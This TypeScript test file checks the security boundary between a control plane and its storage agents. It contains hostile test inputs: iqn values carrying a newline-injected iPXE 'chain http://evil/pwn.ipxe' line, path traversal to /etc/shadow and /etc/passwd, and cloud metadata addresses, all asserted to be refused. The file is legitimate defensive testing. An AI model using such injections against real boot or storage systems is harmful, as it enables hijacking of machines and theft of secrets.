/**
 * Issue 13's findings at the seam between the control plane and its storage agents, as an
 * attacker holding the control-plane token, or running a rogue agent, would try them:
 * environment variables sent as tokens, a stored token sent elsewhere, agent answers that
 * would inject iPXE lines, a wrong stored token, credentials in agent URLs, probes of
 * metadata addresses. Real store, services and app; agents are FakeAgent stand-ins that
 * speak the agent's HTTP protocol on loopback.
 */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { runAsActor, SecretBox } from '@ironlens/core';
import { freeTcpPort } from '@ironlens/core/testing';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { AgentRepository } from '../repositories/agent.repository';
import { FakeAgent } from '../testing/fake-agent';
import { type MetalFixture, newMetalFixture } from '../testing/fixture';

const MAC = '02:00:00:00:00:01';
const BASE_IQN = 'iqn.2026-07.com.controller';
const CONSOLE_SECRET = 'console-secret-0f1e2d';

let f: MetalFixture;
let agent: FakeAgent;
let other: FakeAgent;
const inject = (method: string, url: string, payload?: unknown) => f.app.inject({ method: method as 'GET', url, payload: payload as object });
/** `${NAME}`, as an agent token names an environment variable. */
const envRef = (name: string) => `$\{${name}}`;
const sentAuthorizations = (a: FakeAgent) => a.calls.map((c) => c.authorization ?? '').join('\n');
const answerJson = (status: number, body: unknown) => (_c: unknown, res: import('node:http').ServerResponse) => {
  res.writeHead(status, { 'content-type': 'application/json' });
  res.end(JSON.stringify(body));
};

beforeEach(async () => {
  vi.stubEnv('IRONLENS_CONSOLE_TOKEN', CONSOLE_SECRET);
  vi.stubEnv('IPXE_AGENT_FAKE_TOKEN', 'fake-agent-token');
  f = await newMetalFixture();
  agent = await new FakeAgent().start();
  other = await new FakeAgent().start();
});
afterEach(async () => {
  vi.unstubAllEnvs();
  await f.close();
  await agent.stop();
  await other.stop();
});

describe('agent tokens that name environment variables', () => {
  it('refuses a probe or registration whose token names a variable outside IPXE_CP_AGENT_TOKEN_ENV, and sends nothing', async () => {
    const probe = await inject('POST', '/agents/probe', { base_url: agent.url, token: envRef('IRONLENS_CONSOLE_TOKEN') });
    expect(probe.statusCode).toBe(400);
    expect(probe.json().detail).toContain('IRONLENS_CONSOLE_TOKEN');
    const reg = await inject('POST', '/agents', { id: 'ag1', base_url: agent.url, token: `x${envRef('IRONLENS_CONSOLE_TOKEN')}`, role: { disk: true } });
    expect(reg.statusCode).toBe(400);
    expect(sentAuthorizations(agent)).not.toContain(CONSOLE_SECRET);
    expect((await inject('GET', '/agents?live=false')).json()).toEqual([]);
  });

  it('expands an allowed name (IPXE_AGENT_* by default) when the token is used', async () => {
    expect((await inject('POST', '/agents/probe', { base_url: agent.url, token: envRef('IPXE_AGENT_FAKE_TOKEN') })).statusCode).toBe(200);
    expect(agent.calls.find((c) => c.path === '/capabilities')?.authorization).toBe('Bearer fake-agent-token');
  });

  it('expands a placeholder of the request only for a caller who may register agents: anyone else is refused, nothing sent (issue 29, finding 1)', async () => {
    for (const token of [envRef('IPXE_AGENT_FAKE_TOKEN'), `Bearer-${envRef('IPXE_AGENT_FAKE_TOKEN')}`]) {
      await expect(f.services.agents.probe({ base_url: other.url, token }, { mayWriteAgents: false })).rejects.toMatchObject({ code: 'permission_denied', extra: { permission: 'metal:agent:write' } });
    }
    expect(other.calls).toEqual([]);
    // A literal token, or a registered agent's own by agent_id, is any prober's.
    expect((await f.services.agents.probe({ base_url: agent.url, token: 'literal' }, { mayWriteAgents: false })).backend).toBe('stgt');
    expect((await inject('POST', '/agents', { id: 'ag1', base_url: agent.url, token: envRef('IPXE_AGENT_FAKE_TOKEN'), role: { disk: true } })).statusCode).toBe(201);
    expect((await f.services.agents.probe({ base_url: agent.url, agent_id: 'ag1' }, { mayWriteAgents: false })).backend).toBe('stgt');
    expect(agent.calls.filter((c) => c.path === '/capabilities').map((c) => c.authorization)).toEqual(['Bearer literal', 'Bearer fake-agent-token']);
  });

  it('follows IPXE_CP_AGENT_TOKEN_ENV when the operator allows other names', async () => {
    await f.close();
    vi.stubEnv('LIO_TOKEN', 'lio-token');
    f = await newMetalFixture({ IPXE_CP_AGENT_TOKEN_ENV: 'LIO_TOKEN, IPXE_AGENT_*' });
    expect((await inject('POST', '/agents/probe', { base_url: agent.url, token: envRef('LIO_TOKEN') })).statusCode).toBe(200);
    expect(agent.calls.find((c) => c.path === '/capabilities')?.authorization).toBe('Bearer lio-token');
    expect((await inject('POST', '/agents/probe', { base_url: agent.url, token: envRef('IRONLENS_CONSOLE_TOKEN') })).statusCode).toBe(400);
  });
});

describe("ironlens' own settings and secrets are never an agent token (review 1, S2)", () => {
  /** Everything allowed by the patterns, and one name of the settings list as wiring passes it. */
  const openPolicy = async () => {
    await f.close();
    vi.stubEnv('IRONLENS_SECRET_KEY', 'a'.repeat(64));
    vi.stubEnv('DISK_DIR', '/srv/disks');
    f = await newMetalFixture({ IPXE_CP_AGENT_TOKEN_ENV: '*' }, { reservedEnv: ['DISK_DIR'] });
  };

  it('refuses them in a probe, a registration, an update and an import, even when IPXE_CP_AGENT_TOKEN_ENV allows every name; nothing is sent or stored', async () => {
    await openPolicy();
    for (const name of ['IRONLENS_SECRET_KEY', 'IPXE_CP_TOKEN', 'IRONLENS_CONSOLE_TOKEN', 'IRONLENS_DATABASE_URL', 'KIND_K8S_TOKEN', 'DISK_DIR']) {
      const probe = await inject('POST', '/agents/probe', { base_url: other.url, token: `x${envRef(name)}` });
      expect(probe.statusCode, name).toBe(400);
      expect(probe.json(), name).toMatchObject({ code: 'agent_token_env_reserved', variable: name });
      expect((await inject('POST', '/agents', { id: 'ag1', base_url: other.url, token: envRef(name), role: { disk: true } })).json().code, name).toBe('agent_token_env_reserved');
    }
    expect((await inject('POST', '/agents', { id: 'ag2', base_url: agent.url, token: 'literal', role: { disk: true } })).statusCode).toBe(201);
    const upd = await inject('PUT', '/agents/ag2', { base_url: agent.url, token: envRef('IRONLENS_SECRET_KEY'), role: { disk: true } });
    expect(upd.json().code).toBe('agent_token_env_reserved');
    const dir = mkdtempSync(join(tmpdir(), 'ironlens-layout-'));
    try {
      mkdirSync(join(dir, 'config'));
      writeFileSync(join(dir, 'config', 'agents.yml'), `agents:\n  imported:\n    base_url: ${other.url}\n    token: "${envRef('KIND_K8S_TOKEN')}"\n`);
      await expect(f.services.layout.import(dir, { replace: true })).rejects.toMatchObject({ code: 'agent_token_env_reserved', status: 400 });
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
    expect((await inject('GET', '/agents?live=false')).json().map((a: { id: string }) => a.id)).toEqual(['ag2']);
    expect(other.calls).toEqual([]);
    // The update left the old token: still the literal one.
    await inject('POST', '/agents/probe', { base_url: agent.url, agent_id: 'ag2' });
    expect(agent.calls.filter((c) => c.path === '/capabilities').map((c) => c.authorization)).toEqual(['Bearer literal']);
  });

  it('refuses one stored before this rule (an older import) when it would be used, and sends nothing', async () => {
    await openPolicy();
    const secrets = SecretBox.fromEnv(process.env, f.dir);
    await new AgentRepository(secrets).insert(f.store.db, { id: 'old', base_url: other.url, token: envRef('IRONLENS_SECRET_KEY'), iscsi_server: null, role: { disk: true, cd: false }, tags: ['stgt'], enabled: true });
    const r = await inject('POST', '/agents/probe', { base_url: other.url, agent_id: 'old' });
    expect(r.json().code).toBe('agent_token_env_reserved');
    expect((await inject('GET', '/agents/old/luns')).statusCode).toBe(400);
    expect(other.calls).toEqual([]);
  });
});

describe("an admin's probe that expands a placeholder (review 1, S2)", () => {
  it("is written to the operations log before anything is sent: who, the URL, the variable's name, never its value", async () => {
    const closed = await freeTcpPort();
    await runAsActor('alice', () => f.services.agents.probe({ base_url: agent.url, token: `Bearer-${envRef('IPXE_AGENT_FAKE_TOKEN')}${envRef('IPXE_AGENT_FAKE_TOKEN')}` }, { client: '192.0.2.7', mayWriteAgents: true }));
    // Nothing answers there: the entry is written all the same (the token may have left).
    await expect(runAsActor('bob', () => f.services.agents.probe({ base_url: `http://127.0.0.1:${closed}`, token: envRef('IPXE_AGENT_FAKE_TOKEN') }, { mayWriteAgents: true }))).rejects.toMatchObject({ code: 'agent_bad_gateway' });
    // A literal token, and a registered agent's own, are no such probe.
    await f.services.agents.probe({ base_url: agent.url, token: 'literal' }, { mayWriteAgents: true });
    const { entries } = await f.services.operations({});
    expect(entries.filter((e) => e.op === 'agent.probe').map(({ id: _i, ts: _t, ...e }) => e)).toEqual([
      { op: 'agent.probe', status: 'ok', actor: 'alice', base_url: agent.url, env: ['IPXE_AGENT_FAKE_TOKEN'], client: '192.0.2.7' },
      { op: 'agent.probe', status: 'ok', actor: 'bob', base_url: `http://127.0.0.1:${closed}`, env: ['IPXE_AGENT_FAKE_TOKEN'] },
    ]);
    expect(JSON.stringify(entries)).not.toContain('fake-agent-token');
  });
});

describe('a stored agent token', () => {
  beforeEach(async () => {
    expect((await inject('POST', '/agents', { id: 'ag1', base_url: agent.url, token: 'stored-secret', role: { disk: true } })).statusCode).toBe(201);
  });

  it('is never sent to another base_url by a probe naming the agent', async () => {
    const r = await inject('POST', '/agents/probe', { base_url: other.url, agent_id: 'ag1' });
    expect(r.statusCode).toBe(400);
    expect(sentAuthorizations(other)).not.toContain('stored-secret');
  });

  it("is used by a probe of the agent's own base_url", async () => {
    expect((await inject('POST', '/agents/probe', { base_url: `${agent.url}/`, agent_id: 'ag1' })).statusCode).toBe(200);
    expect(agent.calls.find((c) => c.path === '/capabilities')?.authorization).toBe('Bearer stored-secret');
  });
});

describe('a wrong stored agent token', () => {
  it("answers 502 naming the agent that rejected ironlens' token, not 401", async () => {
    await agent.stop();
    agent = await new FakeAgent({ token: 'right' }).start();
    await inject('POST', '/agents', { id: 'ag1', base_url: agent.url, token: 'wrong', role: { disk: true } });
    const r = await inject('GET', '/agents/ag1/luns');
    expect(r.statusCode).toBe(502);
    expect(r.json()).toEqual({ agent: 'ag1', error: "agent ag1 rejected ironlens' token" });
  });
});

describe('what a rogue agent answers', () => {
  beforeEach(async () => {
    expect((await inject('POST', '/agents', { id: 'rogue', base_url: agent.url, iscsi_server: '10.0.0.10', role: { disk: true, cd: true }, tags: ['stgt'] })).statusCode).toBe(201);
    await f.services.devices.import([{ mac: MAC }], {});
    expect((await inject('POST', '/workers', { worker_id: 'w1', mac: MAC })).statusCode).toBe(200);
  });

  const bootVars = async () => (await inject('GET', `/boot-vars?mac=${MAC}&hostname=w1`)).body;
  const iqn = `${BASE_IQN}:w1.ubuntu`;

  it.each([
    ['an iqn with a newline', { iqn: `${iqn}\nchain http://evil/pwn.ipxe\n#:x`, backing: '/images/w1.ubuntu.img', filename: 'w1.ubuntu.img' }],
    ['another iqn than the one asked for', { iqn: `${BASE_IQN}:someone-else`, backing: '/images/w1.ubuntu.img', filename: 'w1.ubuntu.img' }],
    ['a backing outside its file', { iqn, backing: '/etc/shadow', filename: 'w1.ubuntu.img' }],
    ['a filename that climbs', { iqn, backing: '/images/../../etc/shadow', filename: '../../etc/shadow' }],
  ])('is refused before it is stored: %s', async (_what, answer) => {
    agent.handlers.set('POST /luns/disk', answerJson(200, answer));
    const r = await inject('POST', '/workers/w1/luns/disk', { type: 'empty', os: 'ubuntu', size: '1G' });
    expect(r.statusCode).toBe(502);
    expect(r.json().agent).toBe('rogue');
    expect((await inject('GET', '/workers/w1')).json().disks).toEqual([]);
    expect(await bootVars()).not.toContain('chain');
    expect(await bootVars()).not.toContain('shadow');
  });

  it('refuses a base_iqn from /capabilities outside the IQN grammar', async () => {
    agent.handlers.set('GET /capabilities', answerJson(200, { backend: 'stgt', base_iqn: 'iqn.2026-07.com.evil\nchain http://evil/pwn.ipxe' }));
    const r = await inject('POST', '/workers/w1/luns/disk', { type: 'empty', os: 'ubuntu', size: '1G' });
    expect(r.statusCode).toBe(502);
    expect(agent.calls.some((c) => c.path === '/luns/disk')).toBe(false);
    expect((await inject('POST', '/agents/probe', { base_url: agent.url })).statusCode).toBe(502);
  });

  it('refuses an install CD answered under a bad iqn, and master names outside the file-name grammar', async () => {
    agent.handlers.set('POST /luns/cd', answerJson(200, { iqn: `${BASE_IQN}:w2.windows.iso\nshell`, backing: '/images/win.iso', filename: 'win.iso' }));
    const r = await inject('POST', '/workers', { worker_id: 'w2', windows_iso: 'win.iso' });
    expect(r.statusCode).toBe(502);
    agent.handlers.set('GET /masters', answerJson(200, { masters: [{ name: '../etc/passwd' }] }));
    const m = await inject('GET', '/masters');
    expect(m.statusCode).toBe(502);
    expect(JSON.stringify(m.json())).not.toContain('"name"');
  });
});

describe('credentials in an agent URL', () => {
  it('are redacted in GET /agents, the registration answer and /operations', async () => {
    const port = new URL(agent.url).port;
    const reg = await inject('POST', '/agents', { id: 'ag1', base_url: `http://admin:hunter2@127.0.0.1:${port}`, role: { disk: true } });
    expect(reg.statusCode).toBe(201);
    expect(reg.json().base_url).toBe(`http://[redacted]@127.0.0.1:${port}`);
    for (const url of ['/agents?live=false', '/agents', '/operations']) expect((await inject('GET', url)).body, url).not.toContain('hunter2');
    // They still reach the agent, as Basic auth when there is no bearer token.
    await inject('GET', '/agents/ag1/luns');
    expect(agent.calls.find((c) => c.path === '/luns')?.authorization).toBe(`Basic ${Buffer.from('admin:hunter2').toString('base64')}`);
  });
});

describe('/agents/probe and link-local or metadata addresses', () => {
  it.each(['http://169.254.169.254/', 'http://[fe80::1]:4840', 'http://metadata.google.internal/', 'http://[::ffff:169.254.169.254]/'])(
    'refuses %s without sending anything',
    async (base_url) => {
      const r = await inject('POST', '/agents/probe', { base_url, token: 't' });
      expect(r.statusCode).toBe(400);
      expect(r.json().detail).toContain('IPXE_CP_AGENT_ALLOW_LINK_LOCAL');
    },
  );
});
